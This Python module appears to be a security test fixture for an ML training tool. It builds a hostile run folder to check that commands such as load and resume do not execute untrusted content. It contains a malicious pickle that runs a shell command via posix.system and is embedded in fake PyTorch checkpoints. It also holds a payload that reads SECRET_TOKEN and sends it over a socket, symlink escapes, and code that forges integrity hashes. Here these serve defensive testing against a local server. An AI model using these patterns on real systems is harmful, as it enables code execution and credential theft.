"""A stranger's folder in the user's working folder, and what a trap in it may reach."""

from __future__ import annotations

import contextlib
import json
import shutil
import socket
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from cvae import integrity
from harm.bench import Bench

PRECIOUS = "s3cr3t-t0ken-of-the-user"
_PAYLOAD = """
import os, socket
__all__ = ["fire", "Fire", "connect"]
def fire(*_, **__):
    with open({mark!r}, "a") as file:
        file.write("fired\\n")
    return 1.0
def connect(*_, **__):
    with socket.create_connection(("127.0.0.1", {port})) as server:
        server.sendall(os.environ.get("SECRET_TOKEN", "").encode())
def write(*_, **__):
    open({outside!r} + "/written", "w").close()
class Fire:
    def __init__(self, *_, **__):
        fire()
fire()
"""


READ_BY = ("report", "resume", "load", "evaluate", "predict")  # the commands that read a run folder


@dataclass(frozen=True)
class Trap:
    """A kind of hostile folder.

    Args:
        row: what kind of trap it is.
        name: what is in it.
        make: puts it into the stranger's folder, which holds a run that is whole, and a ``best.yaml``.
        commands: what the user then does, in turn; see ``hostile``.
    """

    row: str
    name: str
    make: Callable[[Stranger], object]
    commands: tuple[str, ...] = READ_BY


class Stranger:
    """``work/stranger`` with a run, and beside it what must stay as it is: ``outside`` with a victim, a server that counts."""

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        self.place = place = bench.place
        bench.restore("half")
        self.folder = place.work / "stranger"
        self.folder.mkdir()
        self.run = self.folder / "run"
        shutil.move(place.work / "run", self.run)
        self.outside, self.mark = place.root / "outside", place.root / "mark"
        self.outside.mkdir()
        self.victim = self.outside / "victim"
        self.victim.write_text(f"what the user wrote: {PRECIOUS}\n")
        self._server = socket.create_server(("127.0.0.1", 0), backlog=100)
        self.port = self._server.getsockname()[1]
        self._server.setblocking(False)
        self.received = b""
        names = {"mark": str(self.mark), "port": self.port, "outside": str(self.outside)}
        self.payload = _PAYLOAD.format(**names)
        (self.folder / "__init__.py").write_text("")
        (self.folder / "payload.py").write_text(self.payload)
        self.shell = f"echo fired >> {self.mark}"
        (self.folder / "evil.pt").write_bytes(self.pickle())
        self.best({})

    # --- what a trap is made of ---------------------------------------------------------------------------------------------

    def config(self, key: str, value: Any) -> None:
        """Set a key of the run's config, by its full name."""
        path = self.run / ".hydra/config.yaml"
        settings = node = yaml.safe_load(path.read_text())
        *parents, last = key.split(".")
        for parent in parents:
            node = node.setdefault(parent, {})
        node[last] = value
        path.write_text(yaml.safe_dump(settings))

    def best(self, settings: dict[str, Any], defaults: tuple[Any, ...] = ()) -> None:
        """Write best.yaml as a sweep does: the tiny model on the bench's data, and these settings."""
        chosen = ("model: tiny", "likelihood: mse", "data: course", "logger: none")
        listed: list[Any] = [{f"override /{word.split(': ')[0]}": word.split(": ")[1]} for word in chosen]
        values = {"batch_size": 2, "n_future": 2, "n_eval": 8, "data.root": str(self.bench.data)}
        text = yaml.safe_dump({"defaults": [*listed, *defaults], **values, **settings}, sort_keys=False)
        (self.folder / "best.yaml").write_text("# @package _global_\n" + text)

    def pickle(self) -> bytes:
        """A pickle that runs a shell's command where it is loaded."""
        return b"cposix\nsystem\n(V" + self.shell.encode() + b"\ntR."

    def archive(self, name: str, record: str = "data.pkl") -> None:
        """Put the pickle into a checkpoint, where PyTorch keeps its own."""
        path = self.run / "checkpoints" / name
        with zipfile.ZipFile(path, "w") as file:
            file.writestr(f"x/{record}", self.pickle())
            file.writestr("x/version", "3\n")

    def study(self, name: str = "study") -> Any:
        """An Optuna study over ``lr`` and ``beta`` in ``study.journal``, to which trials can be added."""
        import optuna
        from optuna.storages.journal import JournalFileBackend, JournalFileOpenLock

        optuna.logging.set_verbosity(optuna.logging.ERROR)
        path = str(self.folder / "study.journal")
        storage = optuna.storages.JournalStorage(JournalFileBackend(path, lock_obj=JournalFileOpenLock(path)))
        return optuna.create_study(study_name=name, storage=storage, direction="maximize")

    def sweep_json(self, **changes: Any) -> None:
        """Make the run a trial of a study with a sweep.json beside it."""
        self.config("trial", {"number": 0, "study": "study", "storage": changes.get("storage", "journal:///nowhere/x.journal")})
        record = self.run / "run.json"
        if _plain(record, 1e6):
            record.write_text(json.dumps({**json.loads(record.read_text()), "group": "study"}))
        trial = {"number": 0, "state": "complete", "values": [10.0], "params": {"lr": 1e-3}, "folder": str(self.run)}
        summary = {
            "study": "study",
            "objective": "val/psnr",
            "directions": ["maximize"],
            "n_trials": 1,
            "space": {},
            "best": [0],
        }
        (self.folder / "sweep.json").write_text(json.dumps({**summary, "trials": [trial], "top_k": None, **changes}))

    def link(self, below: str, target: Path) -> None:
        """Make a path below the run a link."""
        path = self.run / below
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)

    def seal(self) -> None:
        """Let the hashes in run.json and the checkpoints fit the files as they are now: a stranger knows how to make them."""
        config, lines = self.run / ".hydra/config.yaml", self.run / "metrics.jsonl"
        facts: dict[str, Any] = {}
        if _plain(config, 1e6):
            facts["config_sha256"] = integrity.sha256_of(config)
        if _plain(lines, 2e9):
            facts |= integrity.Lines(lines.read_bytes()).facts()
        record = self.run / "run.json"
        with contextlib.suppress(ValueError, TypeError, RecursionError):
            if _plain(record, 1e6) and "config_sha256" in (known := json.loads(record.read_text())):
                record.write_text(integrity.stamped({**known, "config_sha256": facts.get("config_sha256")}))
        for path in (self.run / "checkpoints").resolve().glob("*.pt"):
            with contextlib.suppress(integrity.Damaged):
                if not _plain(path, 1e8):
                    continue
                known = integrity.facts(path)
                with path.open("r+b") as file:
                    if known is not None:
                        file.truncate(known["size"])
                        file.seek(known["size"] - 2)
                        file.write(b"\0\0")  # without the seal that it had
                    integrity.seal(file, {**(known or {}), **facts})

    # --- what came of it ----------------------------------------------------------------------------------------------------

    def executions(self) -> int:
        return len(self.mark.read_text().splitlines()) if self.mark.exists() else 0

    def connections(self) -> int:
        """How many connections were made to the server; what they said is ``received``."""
        count = 0
        while True:
            try:
                connection, _ = self._server.accept()
            except BlockingIOError:
                return count
            count += 1
            with connection:
                connection.settimeout(0.2)
                with contextlib.suppress(OSError):
                    self.received += connection.recv(65536)


def _plain(path: Path, most: float) -> bool:
    """Whether it is a regular file, no link, of at most so many bytes."""
    return path.is_file() and not path.is_symlink() and path.stat().st_size <= most
